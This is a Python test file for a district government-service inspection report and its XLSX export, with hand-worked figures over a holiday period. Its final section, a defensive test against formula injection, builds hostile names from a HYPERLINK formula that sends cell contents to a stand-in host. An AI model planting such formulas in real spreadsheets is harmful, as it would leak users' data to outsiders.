"""The inspection report (定期检查) and its XLSX export, against figures worked out by hand on a
small fixed data set: the period 2026-09-28 to 2026-10-16 crosses the National Day holiday
(10-01 to 10-07, with make-up workdays on Sunday 09-20 and Saturday 10-10)."""
from __future__ import annotations

from datetime import date, datetime, time
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from backend.errors import Forbidden, InvalidInput
from backend.models import Booking, Case, Citizen, Department, Place, ServiceItem, Slot, Staff
from backend.services import cases
from backend.services.catalog import import_catalog
from backend.services.scope import SYSTEM
from backend.services.report_export import (
    DEFINITIONS_SHEET, SUMMARY_SHEET, UNIT_HEADERS, report_xlsx, unit_row,
)
from backend.services.reports import INSUFFICIENT_SAMPLE, REPORT_COLUMNS, inspection_report
from tests.conftest import TZ
from tests.factories import new_case, new_staff

START, END = date(2026, 9, 28), date(2026, 10, 16)
MATERIALS = [{"code": "SFZ", "name": "居民身份证", "copies": 1, "original": True,
              "required": True, "how_to_obtain": "派出所"},
             {"code": "HKB", "name": "户口簿", "copies": 1, "original": True, "required": True,
              "how_to_obtain": "派出所"}]
CATALOG = {
    "places": [{"code": "BS-HALL", "name": "博山区政务服务中心", "level": "district", "parent": None},
               {"code": "BS-TOWN", "name": "城东街道便民服务中心", "level": "town", "parent": None}],
    "departments": [{"code": "RSJ", "name": "区人力资源和社会保障局"},
                    {"code": "MZJ", "name": "区民政局"}],
    "stations": [{"place": "BS-HALL", "department": "RSJ"}, {"place": "BS-HALL", "department": "MZJ"},
                 {"place": "BS-TOWN", "department": "RSJ"}],
    "items": [{"code": "SB-001", "name": "城乡居民基本养老保险参保登记", "department": "RSJ",
               "category": "社会保险", "commitment_days": 5, "help_types": ["assist", "proxy"],
               "places": ["BS-HALL", "BS-TOWN"], "materials": MATERIALS},
              {"code": "MZ-001", "name": "最低生活保障申请", "department": "MZJ",
               "category": "低保办理", "commitment_days": 3, "help_types": ["assist", "proxy"],
               "places": ["BS-HALL"], "materials": MATERIALS[:1]}],
    "schedules": [],
    "rota": [],
}


def at(day: str, hour: int = 10, minute: int = 0) -> datetime:
    return datetime.combine(date.fromisoformat(day), time(hour, minute), TZ)


@pytest.fixture
def data(session, clock, make_citizen):
    """The fixed data set (clock: 2026-11-30, so the report looks from the period's end)."""
    import_catalog(session, SYSTEM, CATALOG, today=date(2026, 9, 1))
    now = at("2026-09-01", 8)
    staff = {name: new_staff(session, now, name, role, places, department)
             for name, role, places, department in [
                 ("admin1", "district_admin", (), None),
                 ("inspector1", "inspector", (), None),
                 ("manager_town", "place_manager", ("BS-TOWN",), None),
                 ("manager_hall", "place_manager", ("BS-HALL",), None),
                 ("agent1", "agent", ("BS-HALL",), "RSJ"), ("agent2", "agent", ("BS-HALL",), "RSJ"),
                 ("agent3", "agent", ("BS-TOWN",), "RSJ"), ("agent4", "agent", ("BS-HALL",), "MZJ")]}
    session.flush()

    def case(when, status, help_type="assist", agent="agent1", **kw):
        return new_case(session, when, make_citizen(), status, help_type, agent=agent, **kw)

    def complete(c, when):
        cases.complete(session, c, c.agent, "办结", when)

    # A: accepted Monday 09-28 07:00 (09-27 in UTC), due 10-10; done 10-09: on time, 4 working days.
    a = case(at("2026-09-28", 7), "in_progress")
    complete(a, at("2026-10-09", 15))
    cases.review(session, a, a.citizen, 5, None, at("2026-10-09", 16))
    # B: accepted 09-29, due 10-12; done 10-14: late, 7 working days; a bad review followed up
    # on 10-20, within its 15 working days (due 11-04).
    b = case(at("2026-09-29"), "in_progress", "proxy")
    complete(b, at("2026-10-14", 11))
    cases.review(session, b, b.citizen, 1, "太慢", at("2026-10-14", 12))
    cases.close_followup(session, b, staff["manager_hall"], "已回访", "已整改", at("2026-10-20"))
    # C: accepted 09-30, due 10-13, still open: late.
    assert case(at("2026-09-30"), "in_progress").due_date == date(2026, 10, 13)
    # D: accepted 10-12, due 10-19, after the period: not judged.
    case(at("2026-10-12"), "accepted", agent="agent2")
    # E: accepted before the period (09-01, due 09-08), done 10-08: late, 22 working days (the
    # make-up Sunday 09-20 counts, the Mid-Autumn and National Day holidays do not). Its bad
    # review is due 10-28, after the period's end: not judged yet.
    e = case(at("2026-09-01"), "in_progress")
    complete(e, at("2026-10-08", 9))
    cases.review(session, e, e.citizen, 2, None, at("2026-10-08", 10))
    # F: at the town, submitted 10-13.
    case(at("2026-10-13"), "submitted", agent="agent3", place="BS-TOWN")
    # G: proxy, two notices, the second naming a new material (a violation), then withdrawn.
    g = case(at("2026-10-09"), "submitted", "proxy")
    cases.check_materials(session, g, [("SFZ", None)], g.agent, at("2026-10-09", 11))
    cases.supplement(session, g, g.citizen, ["SFZ"], at("2026-10-09", 12))
    cases.check_materials(session, g, [("HKB", None)], g.agent, at("2026-10-09", 13))
    cases.withdraw(session, g, g.citizen, at("2026-10-09", 14))
    # I: the civil affairs item, accepted 10-12, due 10-15, done 10-13: on time, 1 working day.
    i = case(at("2026-10-12"), "in_progress", agent="agent4", item="MZ-001")
    complete(i, at("2026-10-13", 9))
    # Outside the period: submitted 10-17 at 00:30 (10-16 in UTC).
    case(at("2026-10-17", 0, 30), "submitted")

    # Bookings (read as written by the booking service): the make-up Saturday's regular slot,
    # a holiday session, a weekend session, the town, and a day after the period.
    citizens = list(session.scalars(select(Citizen).order_by(Citizen.id).limit(4)))
    item = session.scalar(select(ServiceItem).where(ServiceItem.code == "SB-001"))
    places = {p.code: p for p in session.scalars(select(Place))}
    for place, day, kind, statuses in [
            ("BS-HALL", "2026-10-10", "regular", ["checked_in", "no_show", "cancelled", "booked"]),
            ("BS-HALL", "2026-10-03", "holiday", ["checked_in", "checked_in"]),
            ("BS-HALL", "2026-10-11", "weekend", ["no_show"]),
            ("BS-TOWN", "2026-10-12", "regular", ["checked_in"]),
            ("BS-HALL", "2026-10-17", "weekend", ["checked_in"])]:
        slot = Slot(place=places[place], date=date.fromisoformat(day), start_time=time(9),
                    end_time=time(10), kind=kind, capacity=4,
                    booked=sum(s != "cancelled" for s in statuses))
        session.add(slot)
        for n, status in enumerate(statuses):
            session.add(Booking(code=f"{place[-4:]}{day[5:7]}{day[8:]}{n}", citizen=citizens[n],
                                slot=slot, place=places[place], item=item, status=status,
                                created_at=at("2026-09-20")))
    session.commit()
    return staff


def report_for(session, staff, min_cases=3, start=START, end=END, today=date(2026, 11, 30)):
    return inspection_report(session, staff, start, end, today=today, min_cases=min_cases,
                             timezone="Asia/Shanghai")


def figures(unit) -> dict:
    return {
        "bookings": unit.bookings, "x_bookings": unit.x_bookings, "attended": unit.attended,
        "no_shows": unit.no_shows, "cases": unit.cases, "assist": unit.assist_cases,
        "proxy": unit.proxy_cases, "completed": unit.completed, "on_time": unit.completed_on_time,
        "open_overdue": unit.open_overdue, "working_days": unit.working_days_total,
        "violations": unit.notice_violations, "reviews": dict(unit.reviews_by_score),
        "judged": unit.bad_reviews_judged, "in_time": unit.bad_reviews_followed_up_in_time,
    }


def by_code(section):
    return {u.code: u for u in section.ranked + section.insufficient}


def test_the_district_report_has_the_figures_worked_out_by_hand(session, data):
    report = report_for(session, data["inspector1"])
    places, departments, agents = (by_code(s) for s in report.sections)
    no_reviews = {5: 0, 4: 0, 3: 0, 2: 0, 1: 0}

    hall = places["BS-HALL"]
    assert figures(hall) == {
        "bookings": 6, "x_bookings": 3, "attended": 5, "no_shows": 2,
        "cases": 6, "assist": 4, "proxy": 2, "completed": 4, "on_time": 2, "open_overdue": 1,
        "working_days": 4 + 7 + 22 + 1, "violations": 1,
        "reviews": {5: 1, 4: 0, 3: 0, 2: 1, 1: 1}, "judged": 1, "in_time": 1}
    assert (hall.x_share, hall.no_show_rate, hall.on_time_rate) == (0.5, 0.4, 0.4)
    assert hall.average_working_days == 34 / 4
    assert hall.satisfaction_average == pytest.approx(8 / 3)
    assert hall.followup_rate == 1.0
    assert hall.late == 3

    town = places["BS-TOWN"]
    assert figures(town) == {
        "bookings": 1, "x_bookings": 0, "attended": 1, "no_shows": 0, "cases": 1, "assist": 1,
        "proxy": 0, "completed": 0, "on_time": 0, "open_overdue": 0, "working_days": 0,
        "violations": 0, "reviews": no_reviews, "judged": 0, "in_time": 0}
    assert town.on_time_rate is None and town.average_working_days is None

    rsj, mzj = departments["RSJ"], departments["MZJ"]
    assert (rsj.bookings, rsj.cases, rsj.completed, rsj.completed_on_time, rsj.open_overdue) == (
        7, 6, 3, 1, 1)
    assert rsj.on_time_rate == 0.25 and rsj.notice_violations == 1
    assert (mzj.bookings, mzj.cases, mzj.completed, mzj.on_time_rate,
            mzj.average_working_days) == (0, 1, 1, 1.0, 1.0)

    agent1 = agents["agent1"]
    assert agent1.bookings is None and agent1.no_show_rate is None  # bookings name no agent
    assert (agent1.cases, agent1.completed, agent1.completed_on_time, agent1.open_overdue,
            agent1.notice_violations) == (4, 3, 1, 1, 1)
    assert {code: u.cases for code, u in agents.items()} == {
        "agent1": 4, "agent2": 1, "agent3": 1, "agent4": 1}

    # The total is the places' sum.
    assert figures(report.total) == {key: (
        {s: hall.reviews_by_score[s] + town.reviews_by_score[s] for s in no_reviews}
        if key == "reviews" else value + figures(town)[key])
        for key, value in figures(hall).items()}
    assert report.as_of == END and report.scope_label == "全区"


def test_units_under_the_minimum_are_listed_as_too_small_a_sample(session, data):
    report = report_for(session, data["admin1"], min_cases=3)
    places, departments, agents = report.sections
    assert [(u.code, u.rank) for u in places.ranked] == [("BS-HALL", 1)]
    assert [u.code for u in places.insufficient] == ["BS-TOWN"]
    assert [u.code for u in departments.ranked] == ["RSJ"]
    assert [u.code for u in departments.insufficient] == ["MZJ"]
    assert [u.code for u in agents.ranked] == ["agent1"]
    assert all(u.rank is None for u in agents.insufficient)

    # With the minimum at one case every department ranks: MZJ's 100 % before RSJ's 25 %.
    report = report_for(session, data["admin1"], min_cases=1)
    assert [(u.code, u.rank) for u in report.sections[1].ranked] == [("MZJ", 1), ("RSJ", 2)]
    assert any(d.key == "ranking" and "不少于1件" in d.definition for d in report.definitions)


def test_a_running_period_judges_deadlines_as_of_today(session, data):
    # On 10-12 case B (due 10-12) was not late yet and C (due 10-13) not due: nothing overdue.
    report = report_for(session, data["admin1"], end=date(2026, 10, 31), today=date(2026, 10, 12))
    hall = by_code(report.sections[0])["BS-HALL"]
    assert report.as_of == date(2026, 10, 12)
    assert (hall.open_overdue, hall.completed) == (0, 4)


def test_a_place_manager_reads_their_places_and_an_agent_is_refused(session, data):
    report = report_for(session, data["manager_town"], min_cases=1)
    places, departments, agents = (by_code(s) for s in report.sections)
    assert list(places) == ["BS-TOWN"] and report.scope_label == "城东街道便民服务中心"
    assert list(departments) == ["RSJ"]
    assert (departments["RSJ"].cases, departments["RSJ"].bookings) == (1, 1)
    assert list(agents) == ["agent3"]
    assert report.total.cases == 1

    with pytest.raises(Forbidden):
        report_for(session, data["agent1"])


@pytest.mark.parametrize("start, end, field", [
    (date(2026, 10, 16), date(2026, 10, 1), "end"),
    (date(2025, 1, 1), date(2026, 10, 1), "end"),
    (date(2026, 12, 1), date(2026, 12, 31), "start"),
])
def test_a_bad_period_is_refused(session, data, start, end, field):
    with pytest.raises(InvalidInput) as refused:
        report_for(session, data["admin1"], start=start, end=end)
    assert field in refused.value.details


def test_the_xlsx_holds_the_same_figures(session, data):
    report = report_for(session, data["admin1"])
    content, name = report_xlsx(report)
    assert name == "帮办代办定期检查报告_2026-09-28_2026-10-16.xlsx"

    workbook = load_workbook(BytesIO(content))
    assert workbook.sheetnames == [SUMMARY_SHEET, "服务场所", "部门", "帮办代办员", "取号叫号",
                                   "咨询答复", "现场咨询", "培训覆盖", "意见建议", DEFINITIONS_SHEET]
    for section in report.sections:
        rows = list(workbook[section.label].iter_rows(values_only=True))
        assert list(rows[0]) == UNIT_HEADERS
        expected = [unit_row(u, u.rank) for u in section.ranked]
        expected += [unit_row(u, INSUFFICIENT_SAMPLE) for u in section.insufficient]
        assert len(rows) == len(expected) + 1
        for row, wanted in zip(rows[1:], expected):  # floats as the file stores them
            assert list(row) == [pytest.approx(v, rel=1e-12) if isinstance(v, float) else v
                                 for v in wanted]
    hall = [list(r) for r in workbook["服务场所"].iter_rows(values_only=True)][1]
    assert hall[:3] == [1, "BS-HALL", "博山区政务服务中心"]
    assert hall[3 + [h for h, _ in REPORT_COLUMNS].index("按时办结率")] == 0.4

    summary = [list(r) for r in workbook[SUMMARY_SHEET].iter_rows(values_only=True)]
    assert ["报告期", "2026-09-28 至 2026-10-16"] in [row[:2] for row in summary]
    total_row = next(row for row in summary if row[0] == "合计")
    assert total_row[1:] == [pytest.approx(v, rel=1e-12) if isinstance(v, float) else v
                             for v in (value(report.total) for _, value in REPORT_COLUMNS)]
    definitions = [list(r) for r in workbook[DEFINITIONS_SHEET].iter_rows(values_only=True)]
    assert definitions[1:] == [[d.label, d.definition] for d in report.definitions]


def test_a_case_counts_in_the_period_of_its_local_day(session, data):
    """Case A was created at 07:00 on 09-28 in Boshan, still 09-27 in UTC: it is in the period;
    the case created at 00:30 on 10-17 (10-16 in UTC) is not."""
    created = sorted(session.scalars(select(Case.created_at)))
    assert created[1].astimezone(TZ).date() == START  # E (09-01) comes first
    report = report_for(session, data["admin1"])
    assert report.total.cases == 7
    assert session.scalar(select(Staff).where(Staff.username == "agent1")) is not None


# Formula injection (issue 21): names typed by people reach the inspector's spreadsheet. -------

# What a spreadsheet may read as the start of a formula, each followed by a link that would
# carry the sheet's figures away, and a name that reads as an error value: each must arrive as
# the text it is.
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
LINK = 'HYPERLINK("http://e.x/?d="&C2,"详情")'
HOSTILE = [lead + LINK for lead in LEADS] + ["#N/A"]


def sheet_xml(content: bytes, title: str) -> str:
    """The XML of one sheet of the workbook, as Excel reads it."""
    import re
    import zipfile
    with zipfile.ZipFile(BytesIO(content)) as archive:
        book = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
        rel_id = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="([^"]+)"', book)[1]
        target = re.search(rf'<Relationship [^>]*Id="{rel_id}"[^>]*Target="([^"]+)"', rels)
        if target is None:
            target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rel_id}"', rels)
        return archive.read("xl/" + target[1].lstrip("/").removeprefix("xl/")).decode()


@pytest.fixture
def hostile_names(session, data):
    """Every place, department and agent renamed to text that starts like a formula."""
    renamed = {}
    rows = [*session.scalars(select(Place).order_by(Place.code)),
            *session.scalars(select(Department).order_by(Department.code)),
            *session.scalars(select(Staff).where(Staff.role == "agent")
                             .order_by(Staff.username))]
    for n, row in enumerate(rows):
        row.name = renamed[row.code if hasattr(row, "code") else row.username] = (
            HOSTILE[n % len(HOSTILE)])
    session.commit()
    return renamed


@pytest.mark.parametrize("sheet", [SUMMARY_SHEET, "服务场所", "部门", "帮办代办员",
                                   DEFINITIONS_SHEET])
def test_every_text_cell_of_the_xlsx_is_text_whatever_it_begins_with(session, data,
                                                                     hostile_names, sheet):
    # A place manager's summary names their places: text of theirs in that sheet too.
    reader = data["manager_hall"] if sheet == SUMMARY_SHEET else data["admin1"]
    content, _ = report_xlsx(report_for(session, reader, min_cases=1))

    xml = sheet_xml(content, sheet)
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    cells = [c for row in load_workbook(BytesIO(content))[sheet].iter_rows() for c in row
             if isinstance(c.value, str)]
    assert cells
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        # Kept as text in the spreadsheet's own editor too (a quote prefix, not in the value).
        assert bool(cell.quotePrefix) == cell.value.startswith(LEADS), cell.coordinate
    written = {c.value for c in cells}
    # XML reads a carriage return back as a line feed (its line-end rule); the text is the same.
    hostile_names = {k: v.replace("\r", "\n") for k, v in hostile_names.items()}
    if sheet in ("服务场所", "部门", "帮办代办员"):
        section = next(s for s in report_for(session, reader, min_cases=1).sections
                       if s.label == sheet)
        names = {u.name.replace("\r", "\n") for u in section.ranked + section.insufficient}
        assert names and names <= written and names <= set(hostile_names.values())
    elif sheet == SUMMARY_SHEET:
        assert hostile_names["BS-HALL"] in written  # the scope's label: the manager's place


def test_text_an_xlsx_cannot_hold_is_left_out_not_an_error(session, data):
    data["agent1"].name = "李\x01帮办\x1f"
    session.commit()
    content, _ = report_xlsx(report_for(session, data["admin1"], min_cases=1))
    names = {row[2] for row in load_workbook(BytesIO(content))["帮办代办员"].iter_rows(
        min_row=2, values_only=True)}
    assert "李帮办" in names
